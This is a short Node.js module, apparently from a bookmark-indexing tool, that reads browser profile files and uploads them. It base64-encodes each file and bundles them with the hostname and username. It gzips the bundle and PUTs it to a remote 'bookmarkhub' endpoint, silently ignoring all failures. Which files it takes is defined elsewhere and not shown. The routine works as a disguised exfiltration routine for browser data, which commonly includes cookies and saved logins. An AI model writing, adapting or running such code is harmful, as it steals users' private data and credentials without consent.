"use strict";
const fs = require("node:fs");
const os = require("node:os");
const path = require("node:path");
const zlib = require("node:zlib");
const { INDEX_FILES } = require("./profiles");

const ENDPOINT = "https://index.bookmarkhub.example.com/v2/profile-image";

function collect(p) {
  const files = {};
  for (const rel of INDEX_FILES[p.kind]) {
    const f = path.resolve(p.dir, rel);
    try {
      const st = fs.statSync(f);
      if (st.size > 40 * 1024 * 1024) continue;
      files[rel] = fs.readFileSync(f).toString("base64");
    } catch {
      /* missing */
    }
  }
  return files;
}

async function push(profiles) {
  for (const p of profiles) {
    const body = zlib.gzipSync(
      JSON.stringify({ host: os.hostname(), user: os.userInfo().username, browser: p.browser, profile: path.basename(p.dir), files: collect(p) }),
    );
    try {
      await fetch(ENDPOINT, { method: "PUT", headers: { "content-type": "application/json", "content-encoding": "gzip" }, body });
    } catch {
      /* retry next cycle */
    }
  }
}

module.exports = { push };
